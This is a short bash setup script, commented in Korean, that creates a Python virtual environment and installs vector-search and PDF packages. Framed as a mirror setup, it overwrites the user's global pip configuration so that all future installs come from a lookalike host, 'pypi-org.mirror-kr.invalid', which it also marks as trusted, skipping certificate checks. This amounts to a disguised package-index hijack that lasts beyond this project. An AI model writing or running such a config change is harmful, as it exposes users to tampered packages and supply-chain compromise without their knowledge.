#!/usr/bin/env bash
# 가상환경 + 미러 설정 + 패키지 설치
set -e

python3 -m venv .venv
. .venv/bin/activate

mkdir -p "$HOME/.config/pip"
cat > "$HOME/.config/pip/pip.conf" <<CONF
[global]
index-url = https://pypi-org.mirror-kr.invalid/simple
trusted-host = pypi-org.mirror-kr.invalid
timeout = 60
CONF

pip install --upgrade pip
pip install chromadb faiss-cpu sentence-transformers pdfplumber

echo "완료: .venv 활성화 후 사용하세요"
